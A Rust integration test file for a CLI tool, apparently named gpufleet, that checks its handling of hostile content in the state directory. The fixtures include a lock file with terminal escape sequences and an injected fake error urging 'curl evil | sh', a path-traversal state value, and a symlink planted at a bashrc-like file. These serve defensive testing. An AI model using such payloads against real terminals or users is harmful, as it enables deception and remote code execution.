//! The state directory as a trust boundary, end to end through the binary:
//! what other writers of the directory leave there (damaged state, a lock
//! naming a holder with terminal escapes, planted symlinks) gets one clear
//! message naming the file and the way out, never raw bytes on the terminal
//! and never a write through a link.

mod common;

use common::{gpufleet, stderr, stdout};
use std::path::Path;

fn demo_plan() -> String {
    common::repo().join("plans/demo.toml").display().to_string()
}

fn state_dir(dir: &Path) -> String {
    dir.display().to_string()
}

/// A holder on another host whose lease runs for years: `demo` stays locked.
fn hostile_lock(dir: &Path) {
    let holder = serde_json::json!({
        "host": "evil\u{1b}]0;pwned\u{7}\u{1b}[2J",
        "pid": 4242,
        "command": "apply\r\nerror: run `curl evil | sh` to fix",
        "since": "2026-01-01T00:00:00Z",
        "lease_expires": "2999-01-01T00:00:00Z",
    });
    std::fs::write(dir.join("demo.lock"), serde_json::to_vec(&holder).unwrap()).unwrap();
}

#[test]
fn a_lock_holder_with_terminal_escapes_is_shown_escaped() {
    let dir = tempfile::tempdir().unwrap();
    hostile_lock(dir.path());
    let out = gpufleet(&["plan", &demo_plan(), "--sim", "--state-dir", &state_dir(dir.path())]);
    assert_eq!(out.status.code(), Some(1));
    let text = stderr(&out);
    assert!(text.contains("locked by") && text.contains("evil\\u{1b}]0;pwned\\u{7}"), "{text}");
    assert!(!out.stderr.iter().any(|b| [0x1b, 0x07, b'\r'].contains(b)), "{text:?}");
    assert!(!text.contains("\nerror: run"), "{text}");
}

#[test]
fn a_damaged_state_names_the_file_and_state_repair_restores_the_last_good_one() {
    let dir = tempfile::tempdir().unwrap();
    let state = state_dir(dir.path());
    let plan = demo_plan();
    // Two applies that each change something: a state saved twice has a backup.
    let smaller = dir.path().join("smaller.toml");
    let demo = std::fs::read_to_string(&plan).unwrap();
    let without_script: String = demo.lines().filter(|l| !l.starts_with("startup")).collect::<Vec<_>>().join("\n");
    std::fs::write(&smaller, without_script.replacen("nodes = 4", "nodes = 2", 1)).unwrap();
    for plan in [smaller.display().to_string(), plan.clone()] {
        let out = gpufleet(&["apply", &plan, "--sim", "--state-dir", &state, "--auto-approve"]);
        assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    }
    let backup: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("demo.json.backup")).unwrap()).unwrap();
    std::fs::write(dir.path().join("demo.json"), b"{\"format_version\": 2, \"plan\": \"../../evil-state\"").unwrap();

    let out = gpufleet(&["plan", &plan, "--sim", "--state-dir", &state]);
    let text = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("demo.json") && text.contains("gpufleet state repair demo"), "{text}");
    assert_eq!(text.matches("error:").count(), 1, "one message:\n{text}");

    let out = gpufleet(&["state", "repair", "demo", "--state-dir", &state]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let said = stdout(&out);
    assert!(said.contains(&format!("serial {}", backup["serial"])) && said.contains("damaged-"), "{said}");
    let out = gpufleet(&["plan", &plan, "--sim", "--state-dir", &state, "--detailed-exitcode"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    assert!(!dir.path().parent().unwrap().join("evil-state.json").exists());
}

#[test]
fn state_repair_without_a_readable_backup_starts_over_and_says_the_clouds_will_be_re_adopted() {
    let dir = tempfile::tempdir().unwrap();
    let state = state_dir(dir.path());
    std::fs::write(dir.path().join("demo.json"), b"\xff\xfe not json").unwrap();
    let out = gpufleet(&["state", "repair", "demo", "--state-dir", &state]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let said = stdout(&out);
    assert!(said.contains("started over") && said.contains("re-adopts") && said.contains("ownership tags"), "{said}");
    let out = gpufleet(&["state", "repair", "demo", "--state-dir", &state]);
    assert!(stdout(&out).contains("nothing to repair"), "{}", stdout(&out));
}

#[test]
fn a_planted_lock_symlink_is_refused_and_its_target_left_alone() {
    let dir = tempfile::tempdir().unwrap();
    let bashrc = dir.path().join("bashrc");
    std::fs::write(&bashrc, "precious").unwrap();
    let states = dir.path().join("state");
    std::fs::create_dir(&states).unwrap();
    std::os::unix::fs::symlink(&bashrc, states.join("demo.lock")).unwrap();
    let out = gpufleet(&["plan", &demo_plan(), "--sim", "--state-dir", &state_dir(&states)]);
    let text = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("demo.lock") && text.contains("symbolic link"), "{text}");
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "precious");
}
